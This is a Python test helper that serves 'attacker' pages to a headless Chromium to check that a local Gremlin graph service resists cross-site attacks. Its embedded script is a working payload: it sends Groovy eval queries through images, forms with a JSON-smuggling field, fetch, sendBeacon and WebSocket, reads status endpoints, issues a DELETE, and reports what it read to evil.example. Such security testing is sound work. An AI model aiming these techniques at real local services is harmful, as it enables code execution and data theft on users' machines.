"""Pages that attack a local port, and a headless Chromium that opens them.

A page tries each way in which a browser sends something elsewhere. What got through is read in the
graph: each attempt adds a vertex that tells its way.
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import subprocess
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlsplit

import pytest

PATIENCE = 90.0
"""Seconds for a page to end its attempts, on a busy machine."""

NAMES = ("evil.example", "rebound.example")
"""Names of the attacker, which the browser finds on this machine."""

_SCRIPT = """
const targets = %(targets)s;
const again = %(again)s;
const groovy = (way) => `g.addV("owned").property("way", "${way}").iterate()`;
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
function tag(name, attributes) {
  const element = document.createElement(name);
  Object.assign(element, attributes);
  document.body.appendChild(element);
}
const read = [];
async function attack(base, label) {
  const way = (name) => `${label} ${name}`;
  const address = (name) => `${base}/gremlin?gremlin=` + encodeURIComponent(groovy(way(name)));
  tag("img", {src: address("image")});
  tag("img", {src: address("image without referrer"), referrerPolicy: "no-referrer"});
  tag("script", {src: address("script")});
  tag("link", {rel: "stylesheet", href: address("style")});
  tag("iframe", {src: address("frame")});
  tag("iframe", {sandbox: "allow-scripts", src: address("sandboxed frame")});
  tag("video", {src: address("video")});
  tag("object", {data: address("object")});
  new EventSource(address("event source"));
  tag("iframe", {name: way("form")});
  const form = document.createElement("form");
  Object.assign(form, {method: "post", enctype: "text/plain", target: way("form"),
                       action: `${base}/gremlin`});
  const field = document.createElement("input");
  field.name = JSON.stringify({gremlin: groovy(way("form")), x: ""}).slice(0, -2);
  field.value = '"}';
  form.appendChild(field);
  document.body.appendChild(form);
  form.submit();
  navigator.sendBeacon(`${base}/gremlin`, JSON.stringify({gremlin: groovy(way("beacon"))}));
  for (const mode of ["no-cors", "cors", "same-origin"]) {
    for (const type of ["text/plain", "application/json"]) {
      const name = `fetch ${mode} ${type}`;
      fetch(`${base}/gremlin`, {method: "POST", mode, headers: {"Content-Type": type},
                                body: JSON.stringify({gremlin: groovy(way(name))})})
        .then((answer) => answer.text()).then((text) => text && read.push([way(name), text]))
        .catch(() => {});
    }
  }
  for (const path of ["/ml/endpoints", "/metrics", "/status", "/gremlin/status"]) {
    fetch(base + path).then((answer) => answer.text())
      .then((text) => read.push([way(path), text])).catch(() => {});
  }
  fetch(`${base}/ml/endpoints/friends`, {method: "DELETE"}).catch(() => {});
  try {
    const socket = new WebSocket(base.replace("http", "ws") + "/gremlin");
    socket.onopen = () => {
      const text = JSON.stringify({requestId: crypto.randomUUID ? crypto.randomUUID() :
        "3f2e9f0c-0000-4000-8000-00000000000" + Math.floor(Math.random() * 10), op: "eval",
        processor: "", args: {gremlin: groovy(way("WebSocket")), language: "gremlin-groovy"}});
      socket.send(new TextEncoder().encode("\\u0010application/json" + text));
    };
  } catch (error) { /* refused by the browser itself */ }
}
async function run() {
  if (again !== null) {
    while (!(await (await fetch(again)).json())) await pause(200);
    for (let tries = 0; tries < 100; tries += 1) {
      try { await fetch("/health/live"); break; } catch (error) { await pause(200); }
    }
  }
  for (const [base, label] of targets) await attack(base || location.origin, label);
  await pause(%(pause)d);
  await fetch("%(report)s", {method: "POST", mode: "no-cors", body: JSON.stringify(read)});
}
run();
"""


class Attacker:
    """A web server of pages; `answers` is what a page could read of others, when it has ended."""

    def __init__(self, port: int = 0) -> None:
        self.pages: dict[str, str] = {}
        self.opened = threading.Event()
        self.go = False
        self.answers: list[list[str]] | None = None
        self._ended = threading.Event()
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = urlsplit(self.path).path
                if path == "/go":
                    self.reply("application/json", json.dumps(attacker.go))
                elif path in attacker.pages:
                    self.reply("text/html", attacker.pages[path])
                    attacker.opened.set()
                else:
                    self.reply("text/plain", "")

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                attacker.answers = json.loads(body)
                attacker._ended.set()
                self.reply("text/plain", "")

            def reply(self, kind: str, text: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(text.encode())

            def log_message(self, format: str, *arguments: object) -> None:
                """Say nothing."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port = self._server.server_port
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def add_page(
        self, path: str, targets: list[tuple[str, str]], report: Attacker, *, waiting: bool = False
    ) -> None:
        """Offer a page that attacks `targets`, addresses with labels; none is the page's own."""
        script = _SCRIPT % {
            "targets": json.dumps(targets),
            "again": json.dumps(f"http://evil.example:{report.port}/go" if waiting else None),
            "report": f"http://evil.example:{report.port}/report",
            "pause": 5000,
        }
        self.pages[path] = f"<!doctype html><body><script>{script}</script></body>"

    def wait(self) -> list[list[str]]:
        """What the page could read, when its attempts are over."""
        assert self._ended.wait(PATIENCE), "the page did not end"
        assert self.answers is not None
        return self.answers

    def close(self) -> None:
        """Free the port."""
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@contextmanager
def attacker(port: int = 0) -> Iterator[Attacker]:
    """A running server of pages."""
    found = Attacker(port)
    try:
        yield found
    finally:
        found.close()


@contextmanager
def chromium(address: str) -> Iterator[None]:
    """A headless browser with that page open; the attacker's names lead to this machine."""
    program = shutil.which("chromium") or shutil.which("chromium-browser")
    if program is None:
        if os.environ.get("CI"):
            pytest.fail("Chromium is not installed (Debian: apt-get install chromium)")
        pytest.skip("Chromium is not installed (Debian: apt-get install chromium)")
    rules = ", ".join(f"MAP {name} 127.0.0.1" for name in NAMES)
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        command = [
            program,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            # A page that even got past the certificate must not get in.
            "--ignore-certificate-errors",
            # The browser's own protections are not what is tested.
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,"
            "PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults",
            f"--host-resolver-rules={rules}",
            f"--user-data-dir={profile}",
            address,
        ]
        process = subprocess.Popen(
            [*command, "--remote-debugging-port=0"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            yield
        finally:
            os.killpg(process.pid, 15)
            try:
                process.wait(10)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, 9)
                process.wait()
            time.sleep(0.2)
